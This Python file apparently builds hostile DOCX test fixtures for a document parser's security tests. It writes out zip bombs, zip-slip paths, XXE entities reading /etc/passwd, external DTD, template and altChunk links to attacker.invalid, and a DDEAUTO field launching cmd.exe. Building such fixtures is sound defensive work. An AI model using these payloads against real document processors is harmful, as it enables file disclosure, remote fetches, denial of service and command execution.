"""Hostile DOCX files, and other containers."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable

from evil_kinds import SECOND, SENTENCE, Hostile

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
PARAGRAPH = f"<w:p><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
EPOCH = (1980, 1, 1, 0, 0, 0)


def parts(body: str = PARAGRAPH, *, doctype: str = "", kind: str = TYPE, links: str = "") -> dict[str, bytes]:
    """The parts of a small DOCX file."""
    xml = '<?xml version="1.0" encoding="UTF-8"?>'
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    return {
        "[Content_Types].xml": f'{xml}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'.encode(),
        "_rels/.rels": f'{xml}<Relationships xmlns="{relations}"><Relationship Id="rId1" Type="{OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>'.encode(),
        "word/document.xml": f'{xml}{doctype}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'.encode(),
        "word/_rels/document.xml.rels": f'{xml}<Relationships xmlns="{relations}">{links}</Relationships>'.encode(),
    }  # fmt: skip


def packed(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Parts as a ZIP container, always the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, EPOCH), data, method)
    return out.getvalue()


def docx(body: str = PARAGRAPH, /, extra: dict[str, bytes] | None = None, **options: str) -> Callable[[], bytes]:
    return lambda: packed({**parts(body, **options), **(extra or {})})


def without(name: str) -> Callable[[], bytes]:
    return lambda: packed({key: data for key, data in parts().items() if key != name})


def replaced(name: str, data: bytes) -> Callable[[], bytes]:
    return lambda: packed({**parts(), name: data})


def patched(find: bytes, put: bytes) -> Callable[[], bytes]:
    return lambda: packed(parts()).replace(find, put)


def strict() -> bytes:
    old = {"main": WORD, "rels": OFFICE}
    new = {
        "main": "http://purl.oclc.org/ooxml/wordprocessingml/main",
        "rels": "http://purl.oclc.org/ooxml/officeDocument/relationships",
    }
    files = parts()
    return packed(
        {
            key: data.replace(old["main"].encode(), new["main"].encode()).replace(old["rels"].encode(), new["rels"].encode())
            for key, data in files.items()
        }
    )  # fmt: skip


def mutated(seed: int) -> bytes:
    """A good file with bytes changed by chance, always the same for a seed."""
    chance = random.Random(seed)
    data = bytearray(packed(parts(PARAGRAPH * 20), zipfile.ZIP_STORED))
    for _ in range(30):
        data[chance.randrange(len(data))] = chance.randrange(256)
    return bytes(data)


def duplicated() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in [*parts().items(), *parts(PARAGRAPH.replace(SENTENCE, SECOND)).items()]:
            archive.writestr(zipfile.ZipInfo(name, EPOCH), data)
    return out.getvalue()


def encrypted_flag() -> bytes:
    data = bytearray(packed(parts()))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def nested(tag: str, depth: int) -> str:
    return f"<w:{tag}>" * depth + PARAGRAPH + f"</w:{tag}>" * depth


def cell(inner: str) -> str:
    return f"<w:tbl><w:tr><w:tc>{inner}</w:tc></w:tr></w:tbl>"


BOMB = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(f"<!ENTITY {chr(98 + i)} '{f'&{chr(97 + i)};' * 10}'>" for i in range(9)) + "]>"  # fmt: skip
FILE_ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
NET_ENTITY = '<!DOCTYPE x SYSTEM "http://attacker.invalid/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.invalid/p"> %p;]>'
LINK = f'<Relationship Id="rId9" Type="{OFFICE}/{{kind}}" Target="{{target}}" TargetMode="External"/>'
FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>shown</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>'
HIDDEN = f"<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>{SECOND}</w:t></w:r></w:p>"
STYLE_LOOP = f'<?xml version="1.0"?><w:styles xmlns:w="{WORD}"><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'.encode()
SLIP = {"../../evil.xml": b"<a/>", "/etc/evil.xml": b"<a/>", "..\\..\\evil.rels": b"<a/>", "C:/evil.xml": b"<a/>"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)

FILES = (
    Hostile("zip-bomb.docx", replaced("word/document.xml", b" " * 150_000_000), "unpacks"),
    Hostile("zip-bomb-part.docx", docx(extra={"word/media/a.xml": b"0" * 120_000_000}), "unpacks"),
    Hostile("xml-too-large.docx", lambda: packed({**parts(), **{f"word/{i}.xml": random.Random(i).randbytes(4_000_000) for i in range(16)}}, zipfile.ZIP_STORED), "XML"),
    Hostile("tags-too-many.docx", lambda: packed(parts("<w:p/>" * 4_200_000), zipfile.ZIP_STORED), "tags"),
    Hostile("parts-too-many.docx", lambda: packed({**parts(), **{f"word/media/{i}": b"" for i in range(11_000)}}, zipfile.ZIP_STORED), "unpacks"),
    Hostile("zip-slip.docx", docx(extra=SLIP), holds=SENTENCE),
    Hostile("zip-quine-name.docx", docx(extra={"a" * 60_000: b""}), holds=SENTENCE),
    Hostile("cut.docx", lambda: packed(parts())[:-60], "damaged"),
    Hostile("head-only.docx", lambda: b"PK\x03\x04", "damaged"),
    Hostile("directory-only.docx", lambda: packed({}), "archive"),
    Hostile("bad-crc.docx", lambda: packed(parts(), zipfile.ZIP_STORED).replace(b"lifted", b"liftde"), "damaged"),
    Hostile("size-lies.docx", patched(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x00\x00"), "damaged"),
    Hostile("odd-method.docx", patched(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00"), "damaged"),
    Hostile("bzip2.docx", lambda: packed(parts(), zipfile.ZIP_BZIP2), holds=SENTENCE),
    Hostile("lzma.docx", lambda: packed(parts(), zipfile.ZIP_LZMA), holds=SENTENCE),
    Hostile("duplicates.docx", duplicated),
    Hostile("locked-parts.docx", encrypted_flag, "password"),
    Hostile("locked.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le") + "EncryptionInfo".encode("utf-16-le"), "password"),
    Hostile("old-word.docx", lambda: OLE + "WordDocument".encode("utf-16-le"), "old Word"),
    Hostile("ole-empty.docx", lambda: OLE, "Office"),
    Hostile("entity-bomb.docx", docx(f"<w:p><w:r><w:t>&j;</w:t></w:r></w:p>{PARAGRAPH}", doctype=BOMB), "DOCX"),
    Hostile("entity-file.docx", docx(f"<w:p><w:r><w:t>&e;</w:t></w:r></w:p>{PARAGRAPH}", doctype=FILE_ENTITY), "DOCX"),
    Hostile("entity-net.docx", docx(doctype=NET_ENTITY), "DOCX"),
    Hostile("entity-parameter.docx", docx(doctype=PARAMETER), "DOCX"),
    Hostile("entity-utf16.docx", replaced("word/document.xml", parts(doctype=FILE_ENTITY)["word/document.xml"].replace(b'encoding="UTF-8"', b'encoding="UTF-16"').decode().encode("utf-16")), "DOCX"),
    Hostile("entity-utf7.docx", replaced("word/document.xml", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x>'), "damaged"),
    Hostile("xinclude.docx", docx(f'{PARAGRAPH}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), holds=SENTENCE, lacks="root:"),
    Hostile("not-xml.docx", replaced("word/document.xml", b"\x00\x01\x02" * 100), "damaged"),
    Hostile("no-document.docx", without("word/document.xml"), "damaged"),
    Hostile("no-types.docx", without("[Content_Types].xml"), "damaged"),
    Hostile("no-relations.docx", without("_rels/.rels"), "damaged"),
    Hostile("no-document-relations.docx", without("word/_rels/document.xml.rels"), holds=SENTENCE),
    Hostile("no-body.docx", replaced("word/document.xml", f'<w:document xmlns:w="{WORD}"/>'.encode()), "no body"),
    Hostile("empty-body.docx", docx(""), "no text"),
    Hostile("macro.docm", docx(kind="application/vnd.ms-word.document.macroEnabled.main+xml", extra={"word/vbaProject.bin": OLE}), holds=SENTENCE),
    Hostile("strict.docx", strict, holds=SENTENCE),
    Hostile("tables-only.docx", docx(cell(PARAGRAPH) + cell(PARAGRAPH.replace(SENTENCE, SECOND))), holds=SECOND),
    Hostile("tables-deep.docx", lambda: packed(parts(cell("@").replace("@", cell("@")).replace("@", PARAGRAPH)))),
    Hostile("tables-80-deep.docx", lambda: packed(parts("<w:tbl><w:tr><w:tc>" * 80 + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 80)), holds=SENTENCE),
    Hostile("tables-5000-deep.docx", lambda: packed(parts("<w:tbl><w:tr><w:tc>" * 5_000 + PARAGRAPH + "</w:tc></w:tr></w:tbl>" * 5_000)), "damaged"),
    Hostile("nested-controls.docx", docx(nested("sdtContent", 5_000)), "damaged"),
    Hostile("nested-runs.docx", docx(nested("smartTag", 240))),
    Hostile("table-wide.docx", docx("<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 100 + "</w:tr>") * 300 + "</w:tbl>" + PARAGRAPH)),
    Hostile("style-loop.docx", docx(f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>', extra={"word/styles.xml": STYLE_LOOP}, links=f'<Relationship Id="rId2" Type="{OFFICE}/styles" Target="styles.xml"/>')),
    Hostile("self-relation.docx", docx(links=f'<Relationship Id="rId2" Type="{OFFICE}/footnotes" Target="document.xml"/>')),
    Hostile("template-from-net.docx", docx(links=LINK.format(kind="attachedTemplate", target="http://attacker.invalid/a.dotm")), holds=SENTENCE),
    Hostile("image-from-share.docx", docx(links=LINK.format(kind="image", target="file://attacker.invalid/share/a.png")), holds=SENTENCE),
    Hostile("relation-outside.docx", docx(links=f'<Relationship Id="rId2" Type="{OFFICE}/styles" Target="../../../../etc/passwd"/>'), holds=SENTENCE),
    Hostile("dde-field.docx", docx(FIELD + PARAGRAPH), holds=SENTENCE, lacks="DDEAUTO"),
    Hostile("hidden.docx", docx(PARAGRAPH + HIDDEN), holds=SENTENCE, lacks=SECOND),
    Hostile("alt-chunk.docx", docx(PARAGRAPH + '<w:altChunk r:id="rId9"/>', links=LINK.format(kind="aFChunk", target="http://attacker.invalid/a.html")), holds=SENTENCE),
    Hostile("attributes-many.docx", docx("<w:p " + " ".join(f'a{i}="1"' for i in range(50_000)) + "/>" + PARAGRAPH), holds=SENTENCE),
    Hostile("runs-many.docx", docx("<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 30_000 + "</w:p>")),
    Hostile("numbers-huge.docx", docx('<w:p><w:pPr><w:outlineLvl w:val="99999999999999999999"/><w:numPr><w:ilvl w:val="-7"/><w:numId w:val="1e9"/></w:numPr></w:pPr><w:r><w:t>' + SENTENCE + "</w:t></w:r></w:p>"), holds=SENTENCE),
    Hostile("book.xlsx", lambda: packed({"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<a/>"}), "Excel"),
    Hostile("slides.pptx", lambda: packed({"[Content_Types].xml": b"<a/>", "ppt/presentation.xml": b"<a/>"}), "PowerPoint"),
    Hostile("text.odt", lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.text"}, zipfile.ZIP_STORED), "OpenDocument"),
    Hostile("book.epub", lambda: packed({"mimetype": b"application/epub+zip"}, zipfile.ZIP_STORED), "EPUB"),
    *(Hostile(f"mutated-{seed}.docx", lambda seed=seed: mutated(seed), "?") for seed in range(6)),  # type: ignore[misc]
)  # fmt: skip
